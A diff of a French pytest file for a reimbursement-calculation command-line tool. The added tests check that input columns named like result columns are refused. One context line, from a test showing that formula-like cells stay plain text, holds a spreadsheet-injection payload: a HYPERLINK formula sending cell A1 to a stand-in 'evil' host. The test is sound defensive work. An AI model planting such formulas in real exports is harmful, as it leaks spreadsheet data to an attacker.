@@ -860,6 +860,46 @@ def test_cellules_qui_commencent_comme_une_formule_restent_du_texte_xlsx(tmp_pat
     assert r.stdout.splitlines()[1].startswith('"=HYPERLINK(""http://evil/?""&A1;""clic"")","2025-06-01"')
 
 
+def _message_colonnes_de_resultat(f, colonnes: str) -> str:
+    return (f"erreur : {f} : colonne(s) {colonnes} déjà dans l'entrée : ce sont des noms de colonnes de résultat, que la "
+            "sortie ajoute (elle les aurait en double, l'ancienne valeur d'abord) ; indice : retirez ou renommez ces "
+            "colonnes (un fichier de résultats relu ?)\n")
+
+
+@pytest.mark.parametrize("sortie", ["r.csv", "r.json", "r.jsonl", "r.xlsx", "r.parquet"])
+@pytest.mark.parametrize("moteur", ["ligne", "colonnes"])
+def test_colonnes_d_entree_nommees_comme_le_resultat_refusees(tmp_path, sortie, moteur):
+    """An input column named as a result column (`reste_a_charge`, `Erreur`, `part_base`…) would be twice in
+    the output, the stale value first: refused before computing, whatever the format and the engine, exit 2,
+    nothing written."""
+    if (moteur == "ligne" and sortie.endswith("parquet")) or (moteur == "colonnes" and sortie.endswith(("json", "jsonl", "xlsx"))):
+        pytest.skip("combinaison refusée par le choix du moteur")
+    if sortie.endswith("xlsx"):
+        pytest.importorskip("openpyxl")
+    f = tmp_path / "outcol.csv"
+    f.write_text("beneficiaire,date,nature,br,frais_reels,dptm,Reste à charge,Erreur,part_base\n"
+                 "a,2025-06-01,consultation-specialiste,31.50,80,oui,999,bad,777\n", encoding="utf-8")
+    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "-o", tmp_path / sortie, "--moteur", moteur])
+    assert r.exit_code == 2 and r.stderr == _message_colonnes_de_resultat(f, "Reste à charge, Erreur, part_base"), r.stderr
+    assert not (tmp_path / sortie).exists()
+
+
+def test_fichier_de_resultats_relu_refuse_lot_et_verifier(tmp_path):
+    """`lot` run on its own .csv output, `verifier` on its own output: refused (exit 2) naming the columns —
+    never an output with every result column twice."""
+    r = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "option-2", "-o", tmp_path / "r.csv", "-s"])
+    assert r.exit_code == 0
+    r = lancer(["lot", tmp_path / "r.csv", "-c", "cabinets-dentaires", "-f", "option-2", "--format", "json"])
+    colonnes = "securite_sociale, participation_forfaitaire, part_base, part_option, total_rembourse, reste_a_charge"
+    assert r.exit_code == 2 and r.stderr == _message_colonnes_de_resultat(tmp_path / "r.csv", colonnes)
+    releves = RACINE / "exemples" / "releves-famille-2025.csv"
+    f = tmp_path / "releves.csv"
+    texte = releves.read_text(encoding="utf-8").splitlines()
+    f.write_text("\n".join([texte[0] + ";verdict"] + [l + ";conforme" for l in texte[1:]]) + "\n", encoding="utf-8")
+    r = lancer(["verifier", f, "-c", "cabinets-dentaires", "-f", "option-2", "--format", "csv"])
+    assert r.exit_code == 2 and r.stderr == _message_colonnes_de_resultat(f, "verdict")
+
+
 # ------------------------------------------------------------------ the kinds of fault, one test each (message, exit code)
 
 ACTE = ["simuler", "cabinets-dentaires", "-f", "option-2", "-n", "consultation-specialiste", "--br", "30", "--date", "2025-06-01",
